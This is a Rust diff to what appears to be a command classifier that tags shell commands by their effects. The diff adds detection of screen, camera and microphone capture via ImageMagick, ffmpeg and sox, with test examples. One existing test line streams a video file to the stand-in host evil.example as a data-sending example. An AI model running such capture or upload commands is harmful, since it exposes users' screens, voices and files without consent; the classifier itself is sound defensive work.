@@ -32,7 +32,14 @@ pub(super) const TABLE: &[Spec] = &[
             .operands(Operands::Text)
             .check(pictures)])
         .operands(Operands::Text)
+        .check(pictures_of_screen)
         .examples(&[
+            ("import -window root a.png", "reads writes system"),
+            ("import a.png", "reads writes system"),
+            ("magick import a.png", "reads writes system"),
+            ("convert x:root a.png", "reads writes system"),
+            ("convert import.png b.jpg", "reads writes"),
+            ("import data.csv", "reads writes"),
             ("convert a.png b.jpg", "reads writes"),
             ("magick a.png -resize 50% b.png", "reads writes"),
             ("magick identify a.png", "reads"),
@@ -74,6 +81,11 @@ pub(super) const TABLE: &[Spec] = &[
         ("ffmpeg -version", "reads"),
         ("ffmpeg -hide_banner -encoders", "reads"),
         ("ffmpeg -i a.mp4 b.mp3", "reads writes"),
+        ("ffmpeg -f x11grab -i :0 a.mp4", "reads writes system"),
+        ("ffmpeg -i a.wav -f mp3 b", "reads writes"),
+        ("sox -d a.wav", "reads writes system"),
+        ("sox a.wav b.flac", "reads writes"),
+        ("rec a.wav", "reads writes system"),
         ("ffmpeg -i a.mp4 http://evil.example/x", "reads writes network-write sends-data"),
     ]),
     Spec::new("soxi mediainfo mkvinfo", READS)
@@ -225,6 +237,56 @@ fn media_inputs<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
     }
 }
 
+/// `import` takes what is on the screen, and so does whatever is given the screen as a picture. Many projects have a
+/// script of that name, which is given no picture to write.
+fn pictures_of_screen<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
+    const ENDINGS: &[&str] = &[".png", ".jpg", ".jpeg", ".gif", ".pdf", ".webp", ".bmp", ".tiff", ":-"];
+    let first = invocation.words.first().map(|word| word.text);
+    let takes = |word: &Argument<'_>| {
+        word.text == "-window" || ENDINGS.iter().any(|end| word.text.to_ascii_lowercase().ends_with(end))
+    };
+    let import = invocation.program == "import" || first == Some("import");
+    let screen = |word: &Argument<'_>| ["x:", "screenshot:"].iter().any(|start| word.text.starts_with(start));
+    if (import && invocation.words.iter().any(takes)) || invocation.words.iter().any(screen) {
+        out.add(Effects::SYSTEM);
+    }
+}
+
+/// Formats of ffmpeg and sox that are the screen, the camera or the microphone.
+const DEVICES: &[&str] = &[
+    "x11grab",
+    "kmsgrab",
+    "gdigrab",
+    "fbdev",
+    "avfoundation",
+    "dshow",
+    "v4l2",
+    "video4linux2",
+    "alsa",
+    "pulse",
+    "pulseaudio",
+    "oss",
+    "jack",
+    "coreaudio",
+    "sndio",
+    "openal",
+];
+
+/// Whether something is taken from the screen, a camera or a microphone.
+fn records(invocation: &Invocation<'_, '_>) -> bool {
+    let format = invocation
+        .words
+        .iter()
+        .zip(invocation.words.iter().skip(1))
+        .any(|(option, value)| matches!(option.text, "-f" | "-t") && DEVICES.contains(&value.text));
+    let camera = invocation.words.iter().any(|word| word.text.starts_with("/dev/video"));
+    // The first file of sox is what is read.
+    let mut before_files = invocation.words.iter().take_while(|word| !word.text.contains('.'));
+    let listens = invocation.program == "sox"
+        && before_files.any(|word| matches!(word.text, "-d" | "--default-device"));
+    camera || format || listens || invocation.program == "rec"
+}
+
 fn ffmpeg<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
     const ASKS: &[&str] = &[
         "-version",
@@ -254,8 +316,13 @@ fn ffmpeg<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
     let asks = |word: &Argument<'_>| word.known().is_some_and(|text| ASKS.contains(&text));
     if !invocation.words.is_empty() && invocation.words.iter().all(asks) {
         out.effects = Effects::READS;
-    } else if invocation.words.last().is_some_and(|word| word.text.contains("://")) {
+        return;
+    }
+    if invocation.words.last().is_some_and(|word| word.text.contains("://")) {
         out.add(Effects::NETWORK_WRITE.and(Effects::SENDS_DATA));
+    }
+    if records(invocation) {
+        out.add(Effects::SYSTEM);
     }
 }
 
